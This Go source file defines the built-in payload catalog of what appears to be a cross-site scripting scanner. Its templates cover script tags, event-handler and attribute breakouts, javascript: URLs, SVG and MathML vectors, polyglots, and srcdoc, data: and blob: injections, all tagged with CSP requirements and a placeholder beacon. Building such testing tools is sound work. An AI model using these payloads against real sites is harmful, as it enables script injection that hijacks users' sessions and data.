/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: catalog.go
Description: Built-in payload template catalog. Templates carry the capabilities they need
from the page's CSP plus rough context tags used for reporting and sink alignment.
Placeholders: {MARKER} is replaced with the run marker, {JSCMD} with the benign
execution beacon.
*/

package payloads

// Placeholders understood by the template language
const (
	PlaceholderMarker = "{MARKER}"
	PlaceholderJSCmd  = "{JSCMD}"
)

// Context tags
const (
	TagHTMLText = "html_text"
	TagHTMLAttr = "html_attr"
	TagEvent    = "event"
	TagJSString = "js_string"
	TagURL      = "url"
	TagSVG      = "svg"
	TagStyle    = "style"
	TagPolyglot = "polyglot"
	TagSrcdoc   = "srcdoc"
)

// Template is one parametrized attack string with its capability requirements
type Template struct {
	Body           string   `json:"body" yaml:"body"`
	RequiresInline bool     `json:"requires_inline" yaml:"requires_inline"`
	RequiresData   bool     `json:"requires_data" yaml:"requires_data"`
	RequiresBlob   bool     `json:"requires_blob" yaml:"requires_blob"`
	ContextTags    []string `json:"context_tags" yaml:"context_tags"`
	Source         string   `json:"source,omitempty" yaml:"-"`
}

func inline(body string, tags ...string) Template {
	return Template{Body: body, RequiresInline: true, ContextTags: tags, Source: "builtin"}
}

// BuiltinCatalog returns a fresh copy of the built-in templates in stable order.
func BuiltinCatalog() []Template {
	out := make([]Template, len(builtinCatalog))
	copy(out, builtinCatalog)
	return out
}

var builtinCatalog = []Template{
	// html text
	inline(`<script>{JSCMD}</script>`, TagHTMLText),
	inline(`<img src=x onerror="{JSCMD}">`, TagHTMLText, TagEvent),
	inline(`<details open ontoggle="{JSCMD}">{MARKER}</details>`, TagHTMLText, TagEvent),
	inline(`<b>{MARKER}</b>`, TagHTMLText),
	inline(`</title><script>{JSCMD}</script>`, TagHTMLText),
	inline(`</textarea><script>{JSCMD}</script>`, TagHTMLText),

	// html attribute breakouts
	inline(`"><img src=x onerror="{JSCMD}">`, TagHTMLAttr, TagEvent),
	inline(`'><img src=x onerror="{JSCMD}">`, TagHTMLAttr, TagEvent),
	inline(`" autofocus onfocus="{JSCMD}" x="`, TagHTMLAttr, TagEvent),
	inline(`' onmouseover='{JSCMD}' data-m='{MARKER}`, TagHTMLAttr, TagEvent),

	// bare event handlers
	inline(`<body onload="{JSCMD}">`, TagEvent),
	inline(`<input autofocus onfocus="{JSCMD}">`, TagEvent),
	inline(`<video><source onerror="{JSCMD}"></video>`, TagEvent),

	// js string breakouts: effective without inline markup when reflected inside an existing script
	{Body: `';{JSCMD};//`, ContextTags: []string{TagJSString}, Source: "builtin"},
	{Body: `";{JSCMD};//`, ContextTags: []string{TagJSString}, Source: "builtin"},
	{Body: `</script><script>{JSCMD}</script>`, RequiresInline: true, ContextTags: []string{TagJSString, TagHTMLText}, Source: "builtin"},
	{Body: "`-{JSCMD}-`", ContextTags: []string{TagJSString}, Source: "builtin"},
	{Body: `\';{JSCMD};//`, ContextTags: []string{TagJSString}, Source: "builtin"},

	// url contexts
	inline(`javascript:{JSCMD}`, TagURL),
	inline(`javascript://%0a{JSCMD}`, TagURL),
	inline(`<a href="javascript:{JSCMD}">{MARKER}</a>`, TagURL, TagHTMLText),

	// svg / mathml
	inline(`<svg onload="{JSCMD}">`, TagSVG),
	inline(`<svg><animate onbegin="{JSCMD}" attributeName=x dur=1s>`, TagSVG),
	inline(`<math><mtext><table><mglyph><style><img src=x onerror="{JSCMD}">`, TagSVG),

	// style
	inline(`<style>@keyframes x{}</style><i style="animation-name:x" onanimationstart="{JSCMD}">{MARKER}</i>`, TagStyle, TagEvent),
	inline(`<div style="width:expression({JSCMD})">{MARKER}</div>`, TagStyle),

	// polyglots
	inline(`jaVasCript:/*-/*`+"`"+`/*\`+"`"+`/*'/*"/**/(/* */onerror={JSCMD} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd={JSCMD}//>\x3e`, TagPolyglot),
	inline(`'"--></style></script><svg onload="{JSCMD}">`, TagPolyglot),

	// srcdoc / data: / blob:
	inline(`<iframe srcdoc="<script>{JSCMD}</script>"></iframe>`, TagSrcdoc),
	{Body: `<iframe src="data:text/html,<script>{JSCMD}</script>"></iframe>`, RequiresInline: true, RequiresData: true, ContextTags: []string{TagSrcdoc, TagURL}, Source: "builtin"},
	{Body: `<script src="data:text/javascript,{JSCMD}"></script>`, RequiresData: true, ContextTags: []string{TagURL}, Source: "builtin"},
	{Body: `<script>import(URL.createObjectURL(new Blob(["{JSCMD}"],{type:"text/javascript"})))</script>`, RequiresInline: true, RequiresBlob: true, ContextTags: []string{TagURL}, Source: "builtin"},
}
